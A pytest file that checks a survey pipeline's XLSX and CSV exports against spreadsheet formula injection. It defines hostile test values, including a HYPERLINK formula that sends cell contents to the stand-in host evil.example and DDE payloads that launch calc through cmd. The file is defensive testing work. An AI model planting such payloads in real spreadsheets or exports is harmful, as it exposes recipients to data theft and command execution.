"""No export is a spreadsheet attack: answers written by strangers never become live formulas.

A hostile batch (an online export, a paper answer, a reviewer's correction and a recipient list,
each holding formula payloads) is exported as XLSX and CSV; no sheet holds a formula, no CSV field
begins with what a spreadsheet evaluates, and `--raw` gives the values back exactly.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from flows.cli import main
from pipeline.dataset.write import write_dataset
from pipeline.formulas import evaluable, neutral_frame, neutral_text
from pipeline.online import import_online_export
from pipeline.publish import build_forms
from pipeline.records import Answer
from pipeline.store.store import Store
from pipeline.workspace import Workspace

from .conftest import TEMPLATE
from .test_reconcile import paper_page, store_file

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "-2+3+cmd|' -C calc'!A0"
ONLINE_ONLY = "=2+5+cmd|' -C calc'!A0"
CORRECTION = '=HYPERLINK("http://evil.example/","fix")'
# KoboToolbox's convention (';' between fields); the importer strips the tab and carriage return
# before the second response id and the second reference, which leaves bare formulas.
KOBO = (
    f'"_uuid";"_submission_time";"respondent_ref";"visit_frequency";"comments";"{ONLINE_ONLY}"\n'
    f'"{LINK.replace(chr(34), 2 * chr(34))}";"2026-12-01T09:00:00";"@SUM(1+1)*cmd|\' -C calc\'!A0";'
    f'"=1+1";"{DDE}";"=1+1"\n'
    '"\t=1+2";"2026-12-02T09:00:00";"\r=HYPERLINK(""http://evil.example/"")";"weekly";"-5";""\n'
    '"r-3";"2026-12-03T09:00:00";"";"monthly";"-0.5";"+44 1234"\n'
)
RECIPIENTS = (
    "name,address1,town,@note\n"
    f'Ann Jones,1 High Street,"{LINK.replace(chr(34), 2 * chr(34))}",-1\n'
    'Bob Smith,2 Mill Lane,"\t=1+2",+1\n'
)
STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_plain_number_is_data_and_anything_else_that_starts_like_a_formula_is_text() -> None:
    for number in ("-5", "-0.5", "+3", "-.5", "-5.", "-1e3", "+2E-7", "0", "12"):
        assert not evaluable(number) and neutral_text(number) == number
    for formula in ("=1+1", "-1+1", "+cmd", "@SUM(A1)", "\t=1", "\r=1", "-", "-5 ", "- 5",
                    "-1,5", "-inf", "-0x1F", "--5", "-٥", "=", "+"):
        assert evaluable(formula) and neutral_text(formula) == "'" + formula
    for text in ("Open later", "'=1", " =1", "\n=1", "", "5-3", "a=b", "#N/A"):
        assert not evaluable(text) and neutral_text(text) == text


def test_neutral_frame_marks_text_cells_and_names_and_leaves_numbers_and_its_input() -> None:
    frame = pd.DataFrame({"value": ["=x", "-5", "ok"], "=name": ["@a", "", "+1"],
                          "count": [-1, 2, 3]})
    out = neutral_frame(frame)
    assert list(out.columns) == ["value", "'=name", "count"]
    assert out["value"].tolist() == ["'=x", "-5", "ok"]
    assert out["'=name"].tolist() == ["'@a", "", "+1"]
    assert out["count"].tolist() == [-1, 2, 3]
    mixed = pd.DataFrame({"object": pd.Series(["=x", 3, None], dtype=object),
                          "category": pd.Series(["@a", "-5", "@a"], dtype="category")})
    assert neutral_frame(mixed).to_dict("list") == {"object": ["'=x", 3, None],
                                                   "category": ["'@a", "-5", "'@a"]}
    assert list(frame.columns) == ["value", "=name", "count"]  # the input is left alone
    assert frame["value"].tolist() == ["=x", "-5", "ok"]


@pytest.fixture
def hostile(tmp_path: Path, store_url: str, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    """A mailing to two recipients, a paper answer and a correction on copy 000001, and an
    online export: formula payloads everywhere a stranger can write."""
    monkeypatch.setenv("PAPERTWIN_STORE_URL", store_url)
    workspace = Workspace.resolve(tmp_path / "ws")
    recipients = tmp_path / "recipients.csv"
    recipients.write_text(RECIPIENTS, encoding="utf-8")
    built = build_forms(TEMPLATE, None, tmp_path / "form", workspace,
                        recipients_file=recipients)
    key = built.layout.form_key
    store_file(workspace, "batch-07.pdf", [
        paper_page(key, "000001", 2, 1, (Answer("comments", "-5", 0.95),)),
        paper_page(key, "000002", 2, 2, (Answer("comments", "+1+cmd|' -C calc'!A0", 0.95),)),
    ])
    store = Store.open(workspace.store_url)
    try:
        store.record_decision(key, "000001", "comments", CORRECTION, "reviewer-1")
    finally:
        store.close()
    online = tmp_path / "kobo.csv"
    online.write_text(KOBO, encoding="utf-8", newline="")
    imported = import_online_export(online, workspace)
    assert imported.convention == "kobo"
    assert dict(imported.online_only) == {ONLINE_ONLY: ONLINE_ONLY}
    return workspace


def export(workspace: Workspace, out: Path, *options: str) -> None:
    fmt = out.suffix.lstrip(".")
    assert main(["--workspace", str(workspace.root), "export", "--format", fmt, "--out",
                 str(out), "--with-contacts", *options]) == 0


def spreadsheet_would_evaluate(field: str) -> bool:
    """Written from OWASP's list, independently of pipeline.formulas."""
    return field.startswith(STARTS) and re.fullmatch(r"[+-]?\d+(\.\d+)?", field) is None


def csv_fields(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [field for row in csv.reader(handle) for field in row]


def test_the_xlsx_export_holds_no_formula_and_every_value_exactly(hostile: Workspace,
                                                                  tmp_path: Path) -> None:
    out = tmp_path / "dataset.xlsx"
    export(hostile, out)
    with zipfile.ZipFile(out) as workbook:
        sheets = [n for n in workbook.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            xml = workbook.read(name).decode("utf-8")
            assert re.search(r"<f[ >/]", xml) is None, name

    workbook = load_workbook(out)
    hostile_cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
                     if isinstance(cell.value, str) and cell.value.startswith(STARTS)]
    values = {cell.value for cell in hostile_cells}
    assert {LINK, "=1+2", "@SUM(1+1)*cmd|' -C calc'!A0", "=HYPERLINK(\"http://evil.example/\")",
            DDE, ONLINE_ONLY, CORRECTION, "+1+cmd|' -C calc'!A0", "=1+1 (not a choice)",
            "-5", "-0.5", "+44 1234"} <= values
    for cell in hostile_cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix == (cell.value not in ("-5", "-0.5", "-1", "+1")), cell.value

    dataset = pd.read_excel(out, sheet_name="dataset", dtype=str, keep_default_na=False)
    rows = dataset.set_index("response_id")
    assert rows.loc[LINK, "respondent_ref"] == "@SUM(1+1)*cmd|' -C calc'!A0"
    assert rows.loc["=1+2", "respondent_ref"] == '=HYPERLINK("http://evil.example/")'
    assert rows.loc["r-3", ONLINE_ONLY] == "+44 1234"
    paper = dataset[dataset["channel"] == "paper"].set_index("respondent_ref")
    assert paper.loc["000001", "comments"] == CORRECTION
    assert paper.loc["000001", "contact_town"] == LINK
    assert paper.loc["000002", "contact_town"] == "=1+2"
    assert paper.loc["000002", "contact_@note"] == "+1"


def test_the_csv_export_marks_would_be_formulas_and_raw_gives_them_back(
    hostile: Workspace, tmp_path: Path
) -> None:
    out = tmp_path / "dataset.csv"
    export(hostile, out)
    files = [out, tmp_path / "dataset.codebook.csv", tmp_path / "dataset.summary.csv"]
    fields = [field for path in files for field in csv_fields(path)]
    assert [f for f in fields if spreadsheet_would_evaluate(f)] == []
    for payload in (LINK, "=1+2", CORRECTION, DDE, ONLINE_ONLY, "=1+1 (not a choice)",
                    "+1+cmd|' -C calc'!A0", "+44 1234"):
        assert "'" + payload in fields, payload
    assert {"-5", "-0.5", "-1", "+1"} <= set(fields)  # numbers are data
    # Every text field is quoted, so a spreadsheet splitting at ';' cannot start a cell inside it.
    assert out.read_text(encoding="utf-8").startswith('"response_id","channel",')

    raw = tmp_path / "raw.csv"
    export(hostile, raw, "--raw")
    frame = pd.read_csv(raw, dtype=str, keep_default_na=False)
    rows = frame.set_index("response_id")
    assert rows.loc[LINK, "respondent_ref"] == "@SUM(1+1)*cmd|' -C calc'!A0"
    assert rows.loc[LINK, "comments"] == DDE
    paper = frame[frame["channel"] == "paper"].set_index("respondent_ref")
    assert paper.loc["000001", "comments"] == CORRECTION
    assert paper.loc["000001", "contact_town"] == LINK
    codebook = pd.read_csv(tmp_path / "raw.codebook.csv", dtype=str, keep_default_na=False)
    assert ONLINE_ONLY in codebook["question"].tolist()
    safe = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert safe.shape == frame.shape
    pd.testing.assert_frame_equal(
        safe.map(lambda v: v[1:] if v.startswith("'") else v)
        .rename(columns=lambda c: c[1:] if c.startswith("'") else c), frame)


def test_the_contacts_file_of_an_addressed_mailing_holds_no_formula(tmp_path: Path) -> None:
    recipients = tmp_path / "recipients.csv"
    recipients.write_text(RECIPIENTS, encoding="utf-8")
    built = build_forms(TEMPLATE, None, tmp_path / "form", Workspace.resolve(tmp_path / "ws"),
                        recipients_file=recipients)
    assert built.contacts_path is not None
    with built.contacts_path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["serial", "name", "address1", "town", "'@note"],
        ["000001", "Ann Jones", "1 High Street", "'" + LINK, "-1"],
        ["000002", "Bob Smith", "2 Mill Lane", "'=1+2", "+1"],
    ]
    assert not any(spreadsheet_would_evaluate(field) for row in rows for field in row)
    text = io.StringIO(built.contacts_path.read_text(encoding="utf-8"))
    assert next(text).startswith('"serial","name",')


def test_control_characters_that_xlsx_cannot_hold_are_written_as_escapes(tmp_path: Path) -> None:
    """An escape sequence typed online or a stray byte read by OCR: the workbook is still
    written, the character shown as on the terminal, and the rest of the value exact."""
    frame = pd.DataFrame({"response_id": ["r-1", "r-2"],
                          "comments": ["clear\x1b[2Jscreen", "=1+1\x00"]})
    out = tmp_path / "d.xlsx"
    write_dataset(frame, out, "xlsx")
    sheet = load_workbook(out)["dataset"]
    assert [c.value for c in sheet["B"]] == ["comments", "clear\\x1b[2Jscreen", "=1+1\\x00"]
    assert sheet["B3"].data_type == "s" and sheet["B3"].quotePrefix
